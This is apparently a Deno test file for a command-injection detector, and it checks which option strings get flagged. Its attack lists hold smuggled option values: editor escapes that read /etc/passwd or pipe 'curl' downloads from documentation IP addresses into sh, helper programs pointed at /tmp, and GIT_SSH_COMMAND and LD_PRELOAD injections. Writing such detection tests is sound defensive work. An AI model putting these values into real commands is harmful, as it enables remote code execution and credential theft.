import { strictEqual } from "node:assert/strict";
import { commandInjectionDetector } from "./command_injection.ts";
import { programOption } from "./_cmd_r6_progopt.ts";
import type { FieldContext } from "../types.ts";

const ATTACKS = [
  "-S /tmp/helper.sh",
  "-o StrictHostKeyChecking=no -S /dev/shm/x.py",
  "-I /var/tmp/unpack.sh -xf a.tar",
  "--to-command=/tmp/t",
  "--use-compress-program /dev/shm/z",
  "--rsync-path=/tmp/r",
  "--info-script=$TMPDIR/s",
  "--compress-program=~/Downloads/c",
  "-oKnownHostsCommand=/usr/bin/id",
  "-o 'KnownHostsCommand curl x'",
  '+"!curl -s 198.51.100.1/v|sh"',
  "-c '!id'",
  "--cmd 'call system(\"id\")'",
  "+':r !cat /etc/passwd'",
];
const BENIGN = [
  "-S /tmp/ssh-ctl-%r@%h:%p",
  "-e /tmp/cache",
  "--output=/tmp/report.txt",
  "-F ~/.ssh/config_work",
  "+42 notes.txt",
  "-c core.autocrlf=false",
  "--pager=less",
  "sort -S 2G big.txt",
  "Use +! carefully",
  "--exec-path",
  "-o ServerAliveInterval=60",
];

Deno.test("programOption() flags program options pointing at writable places and editor escapes", () => {
  for (const a of ATTACKS) strictEqual(typeof programOption(a), "string", a);
});

Deno.test("programOption() passes ordinary option values", () => {
  for (const b of BENIGN) strictEqual(programOption(b), undefined, b);
});

const OPTS = { strict_keys: [], mode: "auto" as const };
const blocks = (key: string, value: string): boolean =>
  commandInjectionDetector.scan(
    value,
    { stage: "input", path: `$.${key}`, key } as FieldContext,
    OPTS,
  )
    .some((f) => f.severity !== "low");

Deno.test("commandInjectionDetector.scan() flags helper programs, editor escapes and env lines in any key", () => {
  for (
    const [k, v] of [
      ["ssh_flags", "-S /tmp/.cache/run.sh"],
      ["extract_opts", "--to-command=/dev/shm/t"],
      ["vim_args", "-c '!curl -s 192.0.2.4/e|sh'"],
      ["env_entry", "GIT_SSH_COMMAND=sh -c 'id>/tmp/o'"],
      ["environment", "LD_PRELOAD=/tmp/l.so"],
    ]
  ) strictEqual(blocks(k, v), true, v);
});

Deno.test("commandInjectionDetector.scan() passes ordinary option strings", () => {
  for (
    const [k, v] of [
      ["ssh_flags", "-S /tmp/ssh-ctl-%C -o ControlMaster=auto"],
      ["extract_opts", "--strip-components=1 -C vendor/"],
      ["vim_args", "+42 -R"],
      ["env_entry", "GIT_SSH_COMMAND=ssh -o StrictHostKeyChecking=accept-new"],
    ]
  ) strictEqual(blocks(k, v), false, v);
});
